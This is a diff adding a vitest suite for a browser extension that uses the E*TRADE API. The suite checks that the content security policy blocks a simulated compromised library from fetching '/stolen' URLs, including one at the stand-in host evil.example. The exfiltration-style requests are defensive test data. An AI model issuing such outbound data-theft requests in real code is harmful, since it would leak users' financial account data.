@@ -1,0 +1,47 @@
+import { expect, it } from 'vitest';
+import { useStage } from './use-stage.ts';
+
+const stage = useStage();
+
+/** What a library gone bad would try, in a page of the extension. */
+it.each([
+  ["E*TRADE's own website", 'https://us.etrade.com/stolen'],
+  ['another port of the API', 'https://api.etrade.com:8443/stolen'],
+  ['the API without encryption', 'http://api.etrade.com/stolen'],
+  ['any other host', 'https://evil.example/stolen'],
+])('lets no request out to %s', async (_, address) => {
+  const { emulator, openOptions } = stage();
+  const { page } = await openOptions();
+  const violated = await page.evaluate(async (url) => {
+    const violation = new Promise<string>((resolve) =>
+      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+        resolve(effectiveDirective),
+      ),
+    );
+    const answer = await fetch(url, { mode: 'no-cors' }).then(
+      () => 'sent',
+      () => 'refused',
+    );
+    return answer === 'sent' ? answer : violation;
+  }, address);
+  expect(violated).toBe('connect-src');
+  expect(emulator.journal.filter(({ path }) => path === '/stolen')).toEqual([]);
+});
+
+it('lets one out to the API, so that the above is no accident', async () => {
+  const { emulator, openOptions } = stage();
+  const { page } = await openOptions();
+  await page.evaluate(
+    (url) => fetch(url, { mode: 'no-cors' }).catch(() => null),
+    'https://api.etrade.com/let-out',
+  );
+  expect(emulator.journal.filter(({ path }) => path === '/let-out')).toHaveLength(1);
+});
+
+it('puts nothing into the storage that browsers copy to an account', async () => {
+  const { connect } = stage();
+  const popup = await connect();
+  await popup.send('List Accounts');
+  await popup.response('200 OK');
+  expect(await popup.page.evaluate(() => chrome.storage.sync.get(null))).toEqual({});
+});
